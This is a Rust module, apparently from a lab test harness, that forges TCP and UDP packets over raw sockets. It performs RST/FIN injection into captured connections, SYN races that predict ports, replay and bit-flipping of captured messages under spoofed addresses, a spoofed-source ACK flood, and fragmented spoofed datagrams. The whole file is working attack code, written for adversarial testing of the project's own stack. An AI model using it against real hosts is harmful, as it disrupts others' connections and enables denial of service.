//! Somebody who forges TCP segments of others' connections: from a capture, as one who has seen them; live, as one on
//! their path; or without having seen any, as fast as a raw socket takes them. IPv4 only.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{ErrorKind, Read};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::{Args, ValueEnum};
use margay_wire::PORT;
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

use super::forger::{
    DATAGRAM_MAX, IP_UDP_LEN, SEGMENT_LEN, Segment, envelope, frame_segment, raw_socket, read_capture, read_segments,
    write_segment,
};
use crate::host::write_line;
use crate::pump::Dice;

const FIN: u8 = 0x01;
const SYN: u8 = 0x02;
const RST: u8 = 0x04;
const ACK: u8 = 0x10;
/// The lowest port that flows have.
pub const FLOW_PORTS: u16 = 61_000;
/// Flows of a grant that are tried after one that was seen.
const TRIED: u16 = 32;
/// Grants that are tried.
const GRANTS: usize = 40;
/// A number by which answers to forged SYNs are known.
const OWN_NUMBER: u32 = 0x0bad_cafe;
/// Segments between two looks at the clock.
const BATCH: u64 = 64;
/// `ETH_P_ALL`, as the kernel wants it.
const ALL_FRAMES: i32 = 0x0003_u16.to_be() as i32;
/// Addresses of packets that are never seen outside a host: the host's own virtual address, and a name's.
const VIRTUAL: [Ipv4Addr; 2] = [Ipv4Addr::new(198, 18, 0, 1), Ipv4Addr::new(198, 18, 1, 7)];

/// What to forge.
#[derive(Clone, Copy, Debug, ValueEnum)]
pub enum Act {
    /// Endings of connections that a capture shows, with random numbers
    Endings,
    /// Endings of connections that a capture shows, with the numbers that their receiver expects
    Exact,
    /// First segments of connections, right after others' that are seen: by grants that are another's
    Grants,
    /// Messages and sealed data that a capture shows, as they were and changed, under their senders' addresses
    Messages,
    /// Segments to flow ports at random, of nobody's connections
    Flood,
    /// Datagrams from virtual addresses, and to them, also in fragments
    Virtual,
}

/// What to forge, and from what.
#[derive(Args, Debug)]
pub struct Plan {
    /// The act
    #[arg(value_enum)]
    act: Act,
    /// Real segments (pcap)
    #[arg(long, required_if_eq_any([("act", "endings"), ("act", "exact"), ("act", "messages")]))]
    capture: Option<PathBuf>,
    /// Host to send to
    #[arg(long, required_if_eq_any([("act", "flood"), ("act", "virtual"), ("act", "messages")]))]
    target: Option<Ipv4Addr>,
    /// Whom it talks to
    #[arg(long, required_if_eq("act", "messages"))]
    peer: Option<Ipv4Addr>,
    /// Senders' addresses of a flood: the 256 from here on
    #[arg(long, default_value = "10.99.0.0")]
    strangers: Ipv4Addr,
    /// Segments of each kind, for each connection and direction
    #[arg(long, default_value_t = 200)]
    count: u64,
    /// Segments per second
    #[arg(long, default_value_t = 20_000)]
    rate: u64,
    /// For how long
    #[arg(long, default_value_t = 2_000)]
    time_ms: u64,
}

/// Does it. Prints what was sent, and what came of it as far as it can be seen.
///
/// # Errors
///
/// Not on a host of a lab, or the capture has nothing to learn from.
pub fn strike(plan: &Plan) -> Result<()> {
    let capture = || plan.capture.as_deref().context("give --capture");
    let target = || plan.target.context("give --target");
    match plan.act {
        Act::Endings => endings(plan, capture()?),
        Act::Exact => exact(capture()?),
        Act::Grants => take_grants(plan),
        Act::Messages => send_messages(plan, capture()?, [target()?, plan.peer.context("give --peer")?]),
        Act::Flood => flood(plan, target()?),
        Act::Virtual => use_virtual_addresses(plan, target()?),
    }
}

struct Striker {
    socket: Socket,
    start: Instant,
    sent: u64,
    rate: u64,
}

impl Striker {
    fn new(rate: u64) -> Result<Self> {
        Ok(Self { socket: raw_socket()?, start: Instant::now(), sent: 0, rate })
    }

    fn send(&mut self, segment: &Segment) {
        let mut packet = [0; SEGMENT_LEN];
        write_segment(&mut packet, segment);
        self.send_packet(&packet, *segment.to.ip());
    }

    fn send_packet(&mut self, packet: &[u8], to: Ipv4Addr) {
        // A full queue loses it; the count says so.
        self.sent += u64::from(self.socket.send_to(packet, &SocketAddr::from((to, 0)).into()).is_ok());
        if self.sent.is_multiple_of(BATCH) {
            let due = Duration::from_secs_f64(self.sent as f64 / self.rate as f64);
            if let Some(wait) = due.checked_sub(self.start.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
}

/// Connections by direction, with the next number of each.
fn connections(capture: &Path) -> Result<BTreeMap<(SocketAddrV4, SocketAddrV4), Segment>> {
    let mut next = BTreeMap::new();
    for segment in read_segments(capture)? {
        if segment.flags & (SYN | RST) == 0 {
            let sequence = segment.sequence.wrapping_add(segment.length);
            next.insert((segment.from, segment.to), Segment { sequence, length: 0, ..segment });
        }
    }
    anyhow::ensure!(!next.is_empty(), "{} has no connection", capture.display());
    Ok(next)
}

fn endings(plan: &Plan, capture: &Path) -> Result<()> {
    let (known, mut dice) = (connections(capture)?, Dice::new(11));
    let mut striker = Striker::new(plan.rate)?;
    for _ in 0..plan.count {
        for last in known.values() {
            for flags in [RST, RST | ACK, FIN | ACK, FIN, SYN] {
                let (sequence, acknowledged) = (dice.roll() as u32, dice.roll() as u32);
                // One that hits by chance is what TCP takes, too.
                if sequence.abs_diff(last.sequence) > 1 << 24 {
                    striker.send(&Segment { sequence, acknowledged, flags, ..*last });
                }
            }
        }
    }
    write_line(&json!({"sent": striker.sent, "connections": known.len() / 2}).to_string())
}

fn exact(capture: &Path) -> Result<()> {
    let known = connections(capture)?;
    let mut striker = Striker::new(1_000)?;
    known.values().for_each(|last| striker.send(&Segment { flags: RST, ..*last }));
    write_line(&json!({"sent": striker.sent, "connections": known.len() / 2}).to_string())
}

/// Reads what passes this host, and sends first segments of its own with the next ports.
fn take_grants(plan: &Plan) -> Result<()> {
    let mut link = Socket::new(Domain::PACKET, Type::RAW, Some(Protocol::from(ALL_FRAMES))).context("cannot read")?;
    link.set_read_timeout(Some(Duration::from_millis(50)))?;
    let (mut striker, mut frame) = (Striker::new(20_000)?, vec![0; 65_536]);
    let (mut tried, mut answered) = (BTreeSet::new(), BTreeSet::new());
    let (mut seen, mut last_port) = (0, 0);
    while striker.start.elapsed() < Duration::from_millis(plan.time_ms) {
        let length = match link.read(&mut frame) {
            Ok(length) => length,
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => continue,
            Err(error) => return Err(error.into()),
        };
        let Some(segment) = frame_segment(&frame[..length]) else { continue };
        let is_flow = segment.from.port() >= FLOW_PORTS && segment.to.port() >= FLOW_PORTS;
        if is_flow && segment.flags == SYN | ACK && segment.acknowledged == OWN_NUMBER.wrapping_add(1) {
            answered.insert((segment.to, segment.from));
        }
        let is_first = is_flow && segment.flags & (SYN | ACK) == SYN && segment.sequence != OWN_NUMBER;
        // The next of the same grant tells nothing new.
        if is_first && segment.from.port().abs_diff(last_port) > TRIED {
            (seen, last_port) = (seen + 1, segment.from.port());
            for step in 1..=TRIED {
                let Some(port) = last_port.checked_add(step).filter(|_| seen <= GRANTS) else { break };
                let from = SocketAddrV4::new(*segment.from.ip(), port);
                tried.insert((from, segment.to));
                striker.send(&Segment { from, sequence: OWN_NUMBER, acknowledged: 0, length: 0, ..segment });
            }
        }
    }
    let accepted = answered.intersection(&tried).count();
    write_line(&json!({"seen": seen, "sent": striker.sent, "accepted": accepted}).to_string())
}

/// Each message again as it was, with a bit changed, and cut short; to its receiver, and back to its sender.
fn send_messages(plan: &Plan, capture: &Path, ends: [Ipv4Addr; 2]) -> Result<()> {
    let (captured, mut dice) = (read_capture(capture)?, Dice::new(17));
    anyhow::ensure!(!captured.is_empty(), "{} has no messages", capture.display());
    let (mut striker, mut packet) = (Striker::new(plan.rate)?, [0; IP_UDP_LEN + DATAGRAM_MAX]);
    for _ in 0..plan.count {
        for real in &captured {
            for from in ends {
                let to = if from == ends[0] { ends[1] } else { ends[0] };
                let mut bytes = real.bytes.clone();
                match dice.below(4) {
                    0 => {}
                    1 => bytes.truncate(dice.below(bytes.len())),
                    _ => bytes[dice.below(real.bytes.len())] ^= 1 << dice.below(8),
                }
                packet[IP_UDP_LEN..IP_UDP_LEN + bytes.len()].copy_from_slice(&bytes);
                envelope(&mut packet, SocketAddrV4::new(from, PORT), to, bytes.len());
                striker.send_packet(&packet[..IP_UDP_LEN + bytes.len()], to);
            }
        }
    }
    write_line(&json!({"sent": striker.sent, "captured": captured.len()}).to_string())
}

fn flood(plan: &Plan, target: Ipv4Addr) -> Result<()> {
    let (mut dice, mut striker) = (Dice::new(13), Striker::new(plan.rate)?);
    while striker.start.elapsed() < Duration::from_millis(plan.time_ms) {
        for _ in 0..BATCH {
            let mut port = || FLOW_PORTS + dice.below(usize::from(u16::MAX - FLOW_PORTS)) as u16;
            let (source, destination) = (port(), port());
            let from = Ipv4Addr::from(u32::from(plan.strangers) + dice.below(256) as u32);
            striker.send(&Segment {
                from: SocketAddrV4::new(from, source),
                to: SocketAddrV4::new(target, destination),
                sequence: dice.roll() as u32,
                acknowledged: dice.roll() as u32,
                flags: ACK,
                length: 0,
            });
        }
    }
    let seconds = striker.start.elapsed().as_secs_f64();
    write_line(&json!({"sent": striker.sent, "per_s": striker.sent as f64 / seconds}).to_string())
}

/// To a virtual address by the target's link (this host has a route), and from one to the target; each whole, and as
/// a first fragment.
fn use_virtual_addresses(plan: &Plan, target: Ipv4Addr) -> Result<()> {
    let (mut striker, mut packet) = (Striker::new(plan.rate)?, [0; IP_UDP_LEN + 64]);
    for _ in 0..plan.count {
        for address in VIRTUAL {
            for (from, to) in [(plan.strangers, address), (address, target)] {
                for port in [9, 53, PORT] {
                    envelope(&mut packet, SocketAddrV4::new(from, 4_000), to, 64);
                    packet[22..24].copy_from_slice(&port.to_be_bytes());
                    for fragment in [0, 0x20] {
                        packet[6] = fragment;
                        striker.send_packet(&packet, to);
                    }
                }
            }
        }
    }
    write_line(&json!({"sent": striker.sent}).to_string())
}
